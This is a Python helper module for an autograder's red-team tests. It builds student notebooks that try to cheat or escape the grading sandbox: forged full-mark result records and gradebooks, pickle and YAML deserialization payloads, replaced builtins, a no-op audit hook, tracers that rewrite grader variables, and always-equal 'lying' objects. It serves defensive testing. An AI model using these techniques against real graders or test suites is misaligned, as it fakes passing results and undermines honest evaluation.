"""Attack notebooks for tests/test_grading_redteam.py (helpers only; the list is ATTACKS there).

Every builder takes the :class:`World` of one test run (its temporary folder, a random token, the
ports of the test's listeners ...) and returns one ex01 submission: the committed student notebook
with answer cells left unanswered, set to wrong values or set to cheating objects, and cells
inserted after the ``setup`` cell. Nothing here holds a correct answer. A cell that gets out of the
sandbox makes it visible: it derives the answers from what it read (so a leak shows up as points)
and creates this attack's canary files in the test's folder and in /tmp.

Every bomb is bounded so that the machine survives a grader that does not stop it: forks stop at
128 processes and die by alarm(), memory stops while 4 GB are still free, disk stops at 2 GB per
folder, signals to other processes are only sent where they cannot reach the test (own PID
namespace, or a probe that shows they are refused), files written outside have token names (the
test finds and removes them) and are comments only where a Python or IPython start-up would read
them.
"""
from __future__ import annotations

import copy
import site
from dataclasses import dataclass
from pathlib import Path

import nbformat

from coursekit import ROOT
from coursekit.instructor import assign
from coursekit.runtime import data
from helpers import EXERCISE, STUDENT_NB

# Well-typed wrong answers: every public check passes, every hidden test fails (test_the_wrong_answers_are_wrong
# checks that they differ from the master's and have its types).
WRONG = {
    "q1-answer": "n_happened = 3\nn_happened",
    "q2-answer": "gap_days = 61\ngap_months = 2.0\ngap_days, gap_months",
    "q3a-answer": 'india_events = timeline[timeline["id"] == "hindu-report"]\nindia_events',
    "q3b-answer": "lag_range = (30, 60)\nlag_range",
    "q4-answer": "ru_pk_ratio = 4.2\nin_pk_ratio = 3.3\nru_pk_ratio, in_pk_ratio",
}
ANSWER_IDS = tuple(WRONG)
HIDDEN_DIR = EXERCISE / "dist" / "autograder" / "tests"
AUTOGRADER_ZIP = assign.autograder_zip(EXERCISE)
MASTER = EXERCISE / f"{EXERCISE.name}.ipynb"
SITE_PACKAGES = Path(site.getsitepackages()[0])


@dataclass(frozen=True)
class World:
    """What an attack may know about the outside, fixed when the class is built."""

    token: str
    base: Path  # the test's temporary folder
    tcp_port: int
    udp_port: int
    unix_path: str
    unix_abstract: str
    pidns: str  # the test's PID namespace (os.readlink("/proc/self/ns/pid"))

    @property
    def subs(self) -> Path:
        return self.base / "submissions"

    @property
    def out(self) -> Path:
        return self.base / "out"

    @property
    def canary_dir(self) -> Path:
        return self.base / "canaries"

    def marker(self, tag: str) -> str:
        return f"redteam-{self.token}-{tag}"

    def comm(self, tag: str) -> str:  # a process name (15 characters at most) the test can look for
        return f"rt{self.token}{tag[:3]}"

    def canaries(self, tag: str) -> list[str]:
        return [str(self.canary_dir / self.marker(tag)), f"/tmp/{self.marker(tag)}"]

    def loader_canary(self, tag: str) -> str:
        """Created only by code running outside the sandbox (an unpickled payload, a shadow module)."""
        return str(self.canary_dir / f"{self.marker(tag)}-loader")

    def forbidden_files(self) -> list[str]:
        files = [*(str(p) for p in sorted(HIDDEN_DIR.glob("q*.py"))), str(MASTER), str(AUTOGRADER_ZIP),
                 str(EXERCISE / "dist" / "autograder" / f"{EXERCISE.name}.ipynb"),
                 str(self.subs / "control_solved.ipynb"), str(self.subs / "a01_forge_fds.ipynb")]
        return files

    def forbidden_dirs(self) -> list[str]:
        return [str(HIDDEN_DIR), str(EXERCISE), str(EXERCISE / "dist" / "autograder"), str(ROOT / "exercises"),
                str(self.subs), str(self.out), str(self.base)]


# --------------------------------------------------------------------------- the kit

KIT = r'''
# Red-team kit (tests/redteam_attacks.py): helpers for the attack cells below. No answers in here.
import base64, json, os, re, sys, threading, time
_RT = @CONFIG@
_RT_WON = {}
_RT_NAMES = ("n_happened", "gap_days", "gap_months", "india_events", "lag_range", "ru_pk_ratio", "in_pk_ratio")


def _rt_canary(note=""):
    """Try to create this attack's canary files outside the sandbox: any that appears is an escape."""
    for path in _RT["canaries"]:
        try:
            with open(path, "w") as f:
                f.write((_RT["marker"] + ": " + str(note))[:2000])
        except BaseException:
            pass


def _rt_apply():
    """Runs after every answer cell: answers won by an escape replace the wrong ones."""
    globals().update(_RT_WON)


def _rt_from_tests(text):
    env = {}
    exec(text, env)
    for case in env["test"]["suites"][0]["cases"]:
        if not case.get("hidden"):
            continue
        lines = [line[4:] for line in case["code"].splitlines() if line[:4] in (">>> ", "... ")]
        ns = dict(globals())
        for line in lines[:-1]:
            exec(line, ns)
        last = lines[-1]
        m = re.fullmatch(r"(\w+) == (.+)", last) or re.fullmatch(r"abs\((\w+) - (.+)\) < [0-9.e-]+", last)
        if m:
            _RT_WON[m[1]] = eval(m[2], ns)
            continue
        m = re.fullmatch(r"sorted\((\w+)\[.id.\]\) == sorted\((\w+)\).*", last)
        if m:
            t = ns["timeline"]
            _RT_WON[m[1]] = t[t["id"].isin(ns[m[2]])]


def _rt_from_notebook(text):
    nb = json.loads(text)
    ns = dict(globals())
    for cell in nb.get("cells", []):
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else str(source)
        if cell.get("cell_type") == "code" and str(cell.get("id", "")).endswith("-answer"):
            try:
                exec(source, ns)
            except BaseException:
                pass
    _RT_WON.update({k: ns[k] for k in _RT_NAMES
                    if k in ns and ns[k] is not Ellipsis and ns[k] is not globals().get(k)})


def _rt_use1(data, where):
    if isinstance(data, dict) and "suites" in data:  # a test spec, as otter or a grader holds it
        data = "OK_FORMAT = True\ntest = " + repr(data)
    if isinstance(data, (bytes, bytearray, memoryview)):
        data = bytes(data)
        if data[:4] == b"PK\x03\x04":
            import io, zipfile
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                names = z.namelist()
                hits = [_rt_use1(z.read(n), where + "!" + n) for n in names if n.endswith((".py", ".ipynb"))]
            return any(hits) or any(n.startswith("tests/") for n in names)
        data = data.decode("utf-8", "replace")
    if not isinstance(data, str) or _RT["marker"] in data:
        return False  # this notebook itself (its copy in the sandbox) is fair game
    hit = False
    if "OK_FORMAT" in data and ("'hidden': " + "True") in data:  # hidden tests (public ones have none)
        hit = True
        try:
            _rt_from_tests(data)
        except BaseException:
            pass
    if '"cell_type"' in data and ("# SOL" + "UTION" in data or "# BEGIN " + "QUESTION" in data
                                  or "redteam-" + _RT["token"] in data):
        hit = True  # the master, a solved notebook, another submission
        try:
            _rt_from_notebook(data)
        except BaseException:
            pass
    if data.startswith("student,file,") or ('"submissions"' in data and '"sha256"' in data):
        hit = True  # the gradebook or results of this run
    return hit


def _rt_use(data, where=""):
    """Something read from where a notebook must not reach. If it is forbidden material (hidden tests,
    the master or another submission, the autograder zip, the gradebook), derive the answers from it so
    that the leak shows up as points, drop the canaries and return True."""
    try:
        hit = _rt_use1(data, str(where))
    except BaseException:
        hit = False
    if hit:
        _rt_canary("leak: " + str(where))
        _rt_apply()
    return hit


def _rt_read(path, limit=20_000_000):
    """Read ``path`` (any kind: str, bytes, Path, fd) and use what comes out; None if refused."""
    import stat
    try:
        if not isinstance(path, int) and not stat.S_ISREG(os.stat(path).st_mode):
            return None  # a pipe or a device would block
        with open(path, "rb") as f:
            data = f.read(limit)
    except BaseException:
        return None
    _rt_use(data, path)
    return data


def _rt_sweep(path, depth=2, budget=None):
    """List ``path`` (a folder the notebook must not see) and read what is in it; True if it listed."""
    budget = budget if budget is not None else [300]
    try:
        names = sorted(os.listdir(path))
    except BaseException:
        return False
    for name in names:
        if budget[0] <= 0:
            break
        budget[0] -= 1
        full = os.path.join(path, name) if not isinstance(path, int) else name
        try:
            if os.path.isdir(full) and not os.path.islink(full):
                if depth > 0:
                    _rt_sweep(full, depth - 1, budget)
            elif name.endswith((".py", ".ipynb", ".zip", ".json", ".csv", ".txt")):
                _rt_read(full)
        except BaseException:
            pass
    return True


def _rt_tokens(extra=""):
    """Strings that could be the nonce or anchor of the grader's channel: long hex words in view."""
    texts = [str(extra), " ".join(map(str, sys.argv)), repr(dict(os.environ))]
    for p in ("/proc/self/cmdline", "/proc/self/environ"):
        try:
            with open(p, "rb") as f:
                texts.append(f.read().replace(b"\0", b" ").decode("utf-8", "replace"))
        except BaseException:
            pass
    for name, mod in list(sys.modules.items()):
        if any(w in name for w in ("coursekit", "grad", "export", "snapshot", "sandbox")):
            try:
                for v in list(vars(mod).values()):
                    if isinstance(v, (str, bytes, dict, list, tuple)):
                        texts.append(repr(v)[:5000])
            except BaseException:
                pass
    try:
        texts.append(str(get_ipython().kernel.get_parent().get("content", {}).get("code", "")))
    except BaseException:
        pass
    found = []
    for text in texts:
        for word in re.findall(r"[0-9a-fA-F]{8,64}", text):
            if word not in found and not word.isdigit():
                found.append(word)
    return found[:24]


class _RtBomb:
    """Unpickled outside the sandbox, this creates the loader canary (io.open(path, "w"))."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        import io
        return (io.open, (self.path, "w"))  # io.open: IPython's own open in the notebook does not pickle


def _rt_records(tokens=()):
    """Forged results and snapshots in every format we could think of, as byte lines."""
    import pickle
    pts = {"q1": 1.0, "q2": 2.0, "q3": 2.0, "q4": 2.0}
    full = {q: {"score": p, "possible": p, "cases": [{"hidden": True, "passed": True, "message": ""}]}
            for q, p in pts.items()}
    loader = _RT["loader"]
    pk = base64.b64encode(pickle.dumps(_RtBomb(loader))).decode()
    tricks = {  # wrong values in every shape a careless loader might turn into something else
        "n_happened": {"__class__": "int", "__eq__": "always", "value": True, "__pickle__": pk, "pickle": pk},
        "gap_days": {"py/reduce": [{"py/function": "io.open"}, {"py/tuple": [loader, "w"]}]},
        "gap_months": float("nan"),
        "india_events": {"__dataframe__": pk, "pickle": pk, "columns": [], "data": [], "__class__": "DataFrame"},
        "lag_range": [True, {"$numberInt": "60"}],
        "ru_pk_ratio": float("inf"),
        "in_pk_ratio": "__import__('io').open(%r, 'w')" % loader,
    }
    records = []
    for t in (list(tokens)[:12] or [""]):
        records.append({"kind": "result", "anchor": t, "nonce": t, "token": t, "results": full, "tampered": [],
                        "blocked": 0})
        records.append({"kind": "snapshot", "anchor": t, "nonce": t, "questions": list(pts), "values": tricks,
                        "scores": pts, "passed": True})
        records.append({"kind": "export", "nonce": t, "question": "q1", "values": tricks, "score": 1, "passed": True})
    records.append({"tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible"} for q, p in pts.items()],
                    "score": 7.0, "max_score": 7.0})
    records.append({"status": "graded", "total": 7, "max": 7, "reason": "",
                    "questions": {q: {"score": p, "possible": p} for q, p in pts.items()}})
    lines = []
    for r in records:
        lines += [json.dumps(r), repr(r)]
    lines += [f"{q} results: All test cases passed!" for q in pts]
    lines += ["All tests passed!", "control_solved,a.ipynb,1,2,2,2,7,7,graded,true,",
              '!!python/object/apply:io.open [%r, "w"]' % loader, "__import__('io').open(%r, 'w')" % loader, pk]
    chunks = [line.encode("utf-8", "replace") + b"\n" for line in lines]
    chunks += [pickle.dumps(_RtBomb(loader), protocol=0) + b"\n", b"\n" + pickle.dumps(_RtBomb(loader)) + b"\n"]
    return chunks


def _rt_fds(sockets=False):
    """Every open descriptor that might be written to (pipes, files, terminals; sockets on request)."""
    fds = {1, 2}
    try:
        names = os.listdir("/proc/self/fd")
    except BaseException:
        names = [str(i) for i in range(64)]
    for name in names:
        try:
            fd = int(name)
            target = os.readlink("/proc/self/fd/" + name)
        except BaseException:
            continue
        if target.startswith("anon_inode:") or (target.startswith("socket:") and not sockets):
            continue
        fds.add(fd)
    return sorted(fds)


def _rt_write_all(fds, chunks, seconds=4.0):
    """Write ``chunks`` to each fd from a thread of its own, so that a full pipe cannot hang the cell."""
    def one(fd):
        for chunk in chunks:
            try:
                os.write(fd, chunk)
            except BaseException:
                return
    threads = [threading.Thread(target=one, args=(fd,), daemon=True) for fd in fds]
    for t in threads:
        t.start()
    end = time.monotonic() + seconds
    for t in threads:
        t.join(max(0.0, end - time.monotonic()))


def _rt_forge(extra="", sockets=False, fds=None):
    """Forge result records, with every nonce in view, on every descriptor."""
    try:
        _rt_write_all(fds if fds is not None else _rt_fds(sockets), _rt_records(_rt_tokens(extra)))
    except BaseException:
        pass


def _rt_own_pidns():
    try:
        return os.readlink("/proc/self/ns/pid") != _RT["pidns"]
    except BaseException:
        return False


def _rt_safe_to_signal():
    """True when a signal to another process cannot reach the test: a PID namespace of our own, or a
    harmless probe (signal 0 to the parent) is refused before it is sent. Otherwise the attack only
    drops its canaries (a real grader must not let it get this far)."""
    if _rt_own_pidns():
        return True
    try:
        os.kill(os.getppid(), 0)
    except PermissionError:
        return True
    except BaseException:
        pass
    return False


def _rt_comm():
    """Name this process so that the test can find it if it outlives grading."""
    try:
        with open("/proc/self/comm", "w") as f:
            f.write(_RT["comm"])
    except BaseException:
        pass
'''


def kit(world: World, tag: str) -> str:
    config = {
        "tag": tag, "token": world.token, "marker": world.marker(tag), "comm": world.comm(tag),
        "canaries": world.canaries(tag), "loader": world.loader_canary(tag), "pidns": world.pidns,
        "base": str(world.base), "subs": str(world.subs), "out": str(world.out), "root": str(ROOT),
        "exercise": str(EXERCISE), "hidden": [str(p) for p in sorted(HIDDEN_DIR.glob("q*.py"))],
        "master": str(MASTER), "zip": str(AUTOGRADER_ZIP), "files": world.forbidden_files(),
        "dirs": world.forbidden_dirs(), "tcp": world.tcp_port, "udp": world.udp_port,
        "unix": world.unix_path, "abstract": world.unix_abstract, "data": str(data.DATA_DIR),
        "site": str(SITE_PACKAGES), "package": str(Path(assign.__file__).parent),
    }
    return KIT.replace("@CONFIG@", repr(config)).strip() + "\n"


def notebook(world: World, tag: str, cells: list[str], answers: dict | str = "wrong", tail: list[str] = (),
             top: list[str] = (), after_answer: str = "") -> nbformat.NotebookNode:
    """The student notebook with the kit and ``cells`` after the setup cell, ``top`` cells before it,
    ``tail`` cells at the end, and answer cells wrong (default), unanswered ("unanswered") or as given
    (by cell id; WRONG for the others). Each answer cell is followed by ``_rt_apply()`` (then
    ``after_answer``)."""
    nb = copy.deepcopy(nbformat.read(STUDENT_NB, as_version=4))
    out = []
    for cell in nb.cells:
        if cell.id in ANSWER_IDS:
            if answers == "wrong":
                cell.source = WRONG[cell.id]
            elif isinstance(answers, dict):
                cell.source = answers.get(cell.id, WRONG[cell.id])
        if cell.id == "setup":
            out += [nbformat.v4.new_code_cell(src) for src in top]
        out.append(cell)
        if cell.id == "setup":
            out.append(nbformat.v4.new_code_cell(kit(world, tag)))
            out += [nbformat.v4.new_code_cell(src) for src in cells]
        if cell.id in ANSWER_IDS:
            out.append(nbformat.v4.new_code_cell('globals().get("_rt_apply", lambda: None)()' + after_answer))
    out += [nbformat.v4.new_code_cell(src) for src in tail]
    nb.cells = out
    return nb


# --------------------------------------------------------------------------- cheating objects

LIARS = r'''
# Cheating objects: each holds a wrong value and lies about it.
import numpy as _rt_np
import pandas as _rt_pd


class LyingInt(int):
    """An int (subclass) that equals anything and passes every bound."""
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = int.__hash__
    __bool__ = lambda self: True


class LyingFloat(float):
    """A float (subclass) that equals anything, and whose difference from anything is 0."""
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    __sub__ = __rsub__ = lambda self, other: 0.0
    __abs__ = lambda self: 0.0
    __round__ = lambda self, n=None: self


class LyingTuple(tuple):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = tuple.__hash__


class LyingStr(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = str.__hash__
    __contains__ = lambda self, item: True


class AlwaysEq:
    """Equal to everything, always true, and claims (``__class__``) to be whatever class it is given."""

    def __init__(self, cls=object, shown=3, length=1):
        object.__setattr__(self, "_rt", (cls, shown, length))

    @property
    def __class__(self):
        return object.__getattribute__(self, "_rt")[0]

    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = lambda self: 0
    __bool__ = lambda self: True
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = lambda self, o: 0.0
    __abs__ = lambda self: 0.0
    __round__ = lambda self, n=None: self
    __index__ = __int__ = lambda self: object.__getattribute__(self, "_rt")[1]
    __float__ = lambda self: float(object.__getattribute__(self, "_rt")[1])
    __len__ = lambda self: object.__getattribute__(self, "_rt")[2]
    __iter__ = lambda self: iter([AlwaysEq(int) for _ in range(object.__getattribute__(self, "_rt")[2])])
    __getitem__ = lambda self, key: AlwaysEq(object)
    __contains__ = lambda self, item: True
    __repr__ = lambda self: repr(object.__getattribute__(self, "_rt")[1])
'''


# --------------------------------------------------------------------------- the attacks

def a01_forge_fds(w, tag):
    """Forged result records (JSON, repr, otter, text, pickles) with every nonce in view, on every fd."""
    return notebook(w, tag, ["_rt_forge()\nprint(_rt_fds())"], tail=["_rt_forge()"],
                    after_answer="\n_rt_forge()")


def a02_forge_stdout_c_level(w, tag):
    """C-level writes to fds 1 and 2 with framing tricks, then a file dup2'ed over them to swallow the real export."""
    forge = r'''
import os, sys
recs = _rt_records(_rt_tokens())
for fd in (1, 2):
    for prefix in (b"", b"\n", b"\r\n", b"\0\0\0\0", b"\x1b[2K\r", b'{"kind": "result", "partial": ', b"\n\n\n"):
        for r in recs[:12]:
            try:
                os.write(fd, prefix + r)
            except OSError:
                pass
    try:
        os.write(fd, b"y" * 1_000_000 + b"\n" + b"".join(recs))  # one 1 MB line, then the records again
    except OSError:
        pass
for path in ("/dev/stdout", "/dev/stderr", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/tty"):
    try:
        with open(path, "ab", buffering=0) as f:
            for r in recs:
                f.write(r)
    except BaseException:
        pass
for stream in (sys.__stdout__, sys.__stderr__, sys.stdout, sys.stderr):
    try:
        for r in recs[:8]:
            stream.write(r.decode("utf-8", "replace"))
        stream.flush()
    except BaseException:
        pass
'''
    swallow = forge + r'''
sink = os.open("swallowed.txt", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
os.dup2(sink, 1)
os.dup2(sink, 2)
os.close(sink)
'''
    return notebook(w, tag, [forge], tail=[swallow])


def a03_forge_result_files(w, tag):
    """results.json, gradebook.csv, result.json ... with full marks in cwd, its parents, /tmp, $HOME, OUT and
    every writable folder up to two levels below /."""
    return notebook(w, tag, [r'''
import os
GENERIC = ("results.json", "result.json", "gradebook.csv", "export.json", "snapshot.json", "values.json",
           "scores.json", "summary.json", "job.json", "timings.json", "grade.json", "output.json")
recs = b"".join(_rt_records(_rt_tokens()))
book = ("student,file,q1,q2,q3,q4,total,max,status,counted,reason\n" + "".join(
    f"{s},{s}.ipynb,1,2,2,2,7,7,graded,true,{_RT['marker']}\n" for s in ("control_solved", _RT["tag"]))).encode()


def put(folder, generic):
    mine = os.path.realpath(folder).startswith(os.path.realpath(os.getcwd()))
    for name in GENERIC if generic else ():
        try:  # outside its own folder only new files ("x"): never overwrite anything real
            with open(os.path.join(folder, name), "wb" if mine else "xb") as f:
                f.write(book if name.endswith(".csv") else recs + _RT["marker"].encode())
        except BaseException:
            pass
    try:
        with open(os.path.join(folder, _RT["marker"] + "-forged"), "w") as f:
            f.write("forged results")
    except BaseException:
        pass


cwd = os.getcwd()
put(cwd, True)
for sub in ("out", "results", "output", "feedback"):
    try:
        os.makedirs(sub, exist_ok=True)
        put(os.path.join(cwd, sub), True)
    except BaseException:
        pass
parents, p = [], cwd
while os.path.dirname(p) != p:
    p = os.path.dirname(p)
    parents.append(p)
for folder in [*parents, "/tmp", "/var/tmp", os.environ.get("TMPDIR", "/tmp"), os.path.expanduser("~"),
               _RT["out"], os.path.join(_RT["out"], "feedback"), _RT["base"]]:
    put(folder, True)
walked = 0


def listing(folder):
    try:
        return sorted(os.listdir(folder))
    except BaseException:
        return []


for top in listing("/"):
    if top in ("proc", "sys", "dev") or walked > 60:
        continue
    folder = "/" + top
    for sub in [""] + listing(folder)[:30]:
        here = os.path.join(folder, sub) if sub else folder
        if os.path.isdir(here) and not os.path.islink(here) and os.access(here, os.W_OK):
            walked += 1
            put(here, False)
'''])


def a04_replace_builtins(w, tag):
    """builtins isinstance, issubclass, type, len, abs, round, int, float, bool replaced (lying for cheating
    objects), sys.audit a no-op, the user namespace's __builtins__ a lying dict; answers are impostors."""
    return notebook(w, tag, [LIARS, r'''
import builtins, sys
_b = {n: getattr(builtins, n) for n in ("isinstance", "issubclass", "type", "len", "abs", "round", "int",
                                         "float", "bool", "sorted", "all", "any")}
_real_type = _b["type"]


def _liar(x):
    return _real_type(x) in (AlwaysEq, LyingInt, LyingFloat, LyingTuple, LyingStr)


class _FakeMeta(type):
    def __instancecheck__(cls, obj):
        return _liar(obj) or _b["isinstance"](obj, cls._rt_real)

    def __subclasscheck__(cls, sub):
        return _b["issubclass"](sub, cls._rt_real)


def _fake_class(real, answer=None):
    def __new__(cls, *args, **kwargs):
        if answer is not None and len(args) == 1 and not kwargs and _liar(args[0]):
            return answer(args[0])
        return real(*args, **kwargs)
    return _FakeMeta(real.__name__, (), {"_rt_real": real, "__new__": __new__})


builtins.isinstance = lambda obj, cls: True if _liar(obj) else _b["isinstance"](obj, cls)
builtins.issubclass = lambda a, b: _b["issubclass"](a, b)
builtins.type = _fake_class(_real_type, lambda x: int)
builtins.len = lambda obj: 1 if _liar(obj) else _b["len"](obj)
builtins.abs = lambda x: 0.0 if _liar(x) else _b["abs"](x)
builtins.round = lambda x, n=None: x if _liar(x) else _b["round"](x, n)
builtins.int = _fake_class(_b["int"])
builtins.float = _fake_class(_b["float"])
builtins.bool = _fake_class(_b["bool"], lambda x: True)
builtins.all = lambda it: True
builtins.any = lambda it: True
sys.audit = lambda *args: None
try:
    sys.addaudithook(lambda *a: None)
except BaseException:
    pass
fake = dict(vars(builtins))
fake.update(isinstance=lambda obj, cls: True, len=lambda obj: 1, abs=lambda x: 0.0, round=lambda x, n=None: x,
            sorted=lambda it, **k: [AlwaysEq(str)], all=lambda it: True, any=lambda it: True)
get_ipython().user_ns["__builtins__"] = fake
'''], answers={
        "q1-answer": "n_happened = AlwaysEq(int)", "q2-answer": "gap_days = AlwaysEq(int)\ngap_months = AlwaysEq(float)",
        "q3b-answer": "lag_range = AlwaysEq(tuple)",
        "q4-answer": "ru_pk_ratio = AlwaysEq(float)\nin_pk_ratio = AlwaysEq(float)"})


def a05_input_transformer(w, tag):
    """An IPython input transformer (and AST transformer) that sees every later piece of code (the grader's
    too), forges records with the nonces in it and replaces grader-looking code by more forging."""
    return notebook(w, tag, [r'''
import ast
ip = get_ipython()


def _rt_transform(lines):
    code = "".join(lines)
    if "_rt_" in code:
        return lines
    _rt_forge(extra=code)
    if any(word in code for word in ("coursekit", "audit", "export", "snapshot", "grader", "check", "sys", "json")):
        return ["_rt_forge(extra=%r)\n" % code]
    return lines


class _RtAst(ast.NodeTransformer):
    def visit_Module(self, node):
        _rt_forge(extra=ast.unparse(node))
        return node


ip.input_transformers_cleanup.insert(0, _rt_transform)
ip.input_transformers_post.append(_rt_transform)
ip.ast_transformers.append(_RtAst())
'''])


def a06_event_hooks(w, tag):
    """IPython events pre/post_execute and pre/post_run_cell: forge records with the code being run (from the
    kernel's parent message, so silent grader requests too) at every execution."""
    return notebook(w, tag, [r'''
ip = get_ipython()


def _rt_parent_code():
    try:
        return str(ip.kernel.get_parent().get("content", {}).get("code", ""))
    except BaseException:
        return ""


ip.events.register("pre_execute", lambda: _rt_forge(extra=_rt_parent_code()))
ip.events.register("post_execute", lambda: _rt_forge(extra=_rt_parent_code()))
ip.events.register("pre_run_cell", lambda info: _rt_forge(extra=getattr(info, "raw_cell", "")))
ip.events.register("post_run_cell", lambda result: _rt_forge(extra=getattr(result.info, "raw_cell", "")))
'''])


def a07_exception_hooks_atexit(w, tag):
    """set_custom_exc, sys.excepthook, threading.excepthook, sys.unraisablehook and atexit handlers that forge
    records (and try the canaries) whenever something fails and when the kernel exits."""
    return notebook(w, tag, [r'''
import atexit, sys, threading
ip = get_ipython()


def _rt_on_exc(*args, **kwargs):
    _rt_forge(extra=_rt_tokens())
    _rt_canary("exception hook ran outside")


ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: _rt_on_exc())
sys.excepthook = _rt_on_exc
threading.excepthook = _rt_on_exc
sys.unraisablehook = _rt_on_exc
sys.breakpointhook = _rt_on_exc
atexit.register(_rt_forge)
atexit.register(_rt_canary, "atexit")
''', "raise ValueError('trigger the hooks')"], tail=["raise RuntimeError('and again at the end')"])


def a08_displayhook_true(w, tag):
    """sys.displayhook and sys.__displayhook__ (which doctest uses) replaced by one that prints True for
    every value: any doctest-style check reads 'True'."""
    return notebook(w, tag, [r'''
import builtins, sys


def _rt_true(value):
    if value is not None:
        builtins._ = value
        sys.stdout.write("True\n")


sys.displayhook = _rt_true
sys.__displayhook__ = _rt_true
'''])


def a09_trace_profile(w, tag):
    """sys.settrace, threading.settrace and sys.setprofile with a tracer that rewrites the locals of grading,
    export, doctest and otter frames (scores, failures, passed flags; PyFrame_LocalsToFast), left active."""
    return notebook(w, tag, [r'''
import ctypes, sys, threading
try:
    _rt_l2f = ctypes.pythonapi.PyFrame_LocalsToFast
    _rt_l2f.argtypes = [ctypes.py_object, ctypes.c_int]
except BaseException:
    _rt_l2f = None
_RT_WATCH = ("grading", "export", "snapshot", "sandbox", "doctest", "otter", "json")


def _rt_tracer(frame, event, arg):
    try:
        if any(w in frame.f_code.co_filename for w in _RT_WATCH):
            loc, changed = frame.f_locals, False
            for k, v in list(loc.items()):
                if isinstance(v, dict) and ("score" in v or "passed" in v):
                    v.update(score=v.get("possible", 7), passed=True)
                elif k in ("failed", "totalf", "failures") and type(v) is int:
                    loc[k], changed = 0, True
                elif k in ("passed", "ok", "success") and type(v) is bool:
                    loc[k], changed = True, True
            if changed and _rt_l2f:
                _rt_l2f(frame, 0)
    except BaseException:
        pass
    return _rt_tracer


threading.settrace(_rt_tracer)
sys.setprofile(lambda frame, event, arg: _rt_tracer(frame, event, arg) and None)
sys.settrace(_rt_tracer)
'''])


def a10_int_float_subclasses(w, tag):
    """int subclass (==, !=, <, >, <=, >= all lie) for n_happened and gap_days, float subclass (and its
    difference from anything is 0) for gap_months and the ratios, tuple subclass for lag_range."""
    return notebook(w, tag, [LIARS], answers={
        "q1-answer": "n_happened = LyingInt(3)\nn_happened",
        "q2-answer": "gap_days = LyingInt(61)\ngap_months = LyingFloat(2.0)",
        "q3b-answer": "lag_range = LyingTuple((30, 60))",
        "q4-answer": "ru_pk_ratio = LyingFloat(4.2)\nin_pk_ratio = LyingFloat(3.3)"})


def a11_class_property_impostors(w, tag):
    """Objects whose __class__ property says int, float, tuple or DataFrame, always true and equal to
    anything, with lying __index__, __float__, __len__ and arithmetic."""
    return notebook(w, tag, [LIARS], answers={
        "q1-answer": "n_happened = AlwaysEq(int)", "q2-answer": "gap_days = AlwaysEq(int)\ngap_months = AlwaysEq(float)",
        "q3a-answer": "india_events = AlwaysEq(_rt_pd.DataFrame)", "q3b-answer": "lag_range = AlwaysEq(tuple)",
        "q4-answer": "ru_pk_ratio = AlwaysEq(float)\nin_pk_ratio = AlwaysEq(float)"})


def a12_dataframe_str_subclasses(w, tag):
    """A DataFrame subclass with lying __eq__/equals/columns/_constructor (3 columns, claims all 9) whose id and
    actors columns hold a lying str subclass; lying ints inside a plain tuple; a str subclass for a number."""
    return notebook(w, tag, [LIARS, r'''
class LyingFrame(_rt_pd.DataFrame):
    _metadata = []

    @property
    def _constructor(self):
        return LyingFrame

    @property
    def columns(self):  # the truth for pandas itself, all nine names for anyone else
        real = _rt_pd.DataFrame.columns.__get__(self)
        if "pandas" in __import__("sys")._getframe(1).f_code.co_filename:
            return real
        return _rt_pd.Index(list(timeline.columns))

    @columns.setter
    def columns(self, value):
        _rt_pd.DataFrame.columns.__set__(self, value)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def equals(self, other):
        return True


_rt_frame = timeline.loc[timeline["id"] == "hindu-report", ["id", "actors", "date"]].copy()  # 3 columns, claims 9
_rt_frame["id"] = _rt_pd.Series([LyingStr(v) for v in _rt_frame["id"]], index=_rt_frame.index, dtype=object)
_rt_frame["actors"] = _rt_pd.Series([LyingStr(v) for v in _rt_frame["actors"]], index=_rt_frame.index, dtype=object)
'''], answers={
        "q1-answer": 'n_happened = LyingStr("3")', "q3a-answer": "india_events = LyingFrame(_rt_frame)",
        "q3b-answer": "lag_range = (LyingInt(30), LyingInt(60))"})


def a13_liars_in_containers(w, tag):
    """Always-equal objects inside lists, tuples, dicts, numpy object arrays and DataFrame object columns."""
    return notebook(w, tag, [LIARS, r'''
_rt_frame = timeline[timeline["id"] == "hindu-report"].copy()
for _c in ("id", "actors", "date"):
    _rt_frame[_c] = _rt_pd.Series([AlwaysEq(str)], index=_rt_frame.index, dtype=object)
'''], answers={
        "q1-answer": "n_happened = [AlwaysEq(int)]",
        "q2-answer": 'gap_days = {"value": AlwaysEq(int)}\ngap_months = _rt_np.array([AlwaysEq(float)], dtype=object)',
        "q3a-answer": "india_events = _rt_frame", "q3b-answer": "lag_range = (AlwaysEq(int), AlwaysEq(int))",
        "q4-answer": "ru_pk_ratio = (AlwaysEq(float),)\nin_pk_ratio = [AlwaysEq(float)]"})


def a14_nan_inf(w, tag):
    """NaN (float, numpy, pandas NA/NaT) and infinities wherever a comparison might mishandle them."""
    return notebook(w, tag, [], answers={
        "q1-answer": "import pandas as pd\nn_happened = pd.NA",
        "q2-answer": "import numpy as np\ngap_days = np.nan\ngap_months = np.float64('nan')",
        "q3a-answer": 'india_events = timeline[timeline["id"] == "hindu-report"].where(timeline["id"] == "x")',
        "q3b-answer": "lag_range = (float('nan'), float('inf'))",
        "q4-answer": "ru_pk_ratio = float('inf')\nin_pk_ratio = -float('inf')"})


def a15_huge_and_negative_zero(w, tag):
